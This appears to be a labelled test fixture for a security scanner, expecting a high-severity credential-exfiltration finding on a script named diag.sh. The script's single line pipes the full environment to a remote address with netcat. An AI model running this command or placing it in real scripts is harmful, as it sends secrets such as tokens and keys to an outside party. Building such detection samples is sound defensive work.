# expect: shell.credential_exfil high
# note: the environment sent over a raw TCP connection
# path: scripts/diag.sh
#!/bin/sh
printenv | nc 203.0.113.9 4444
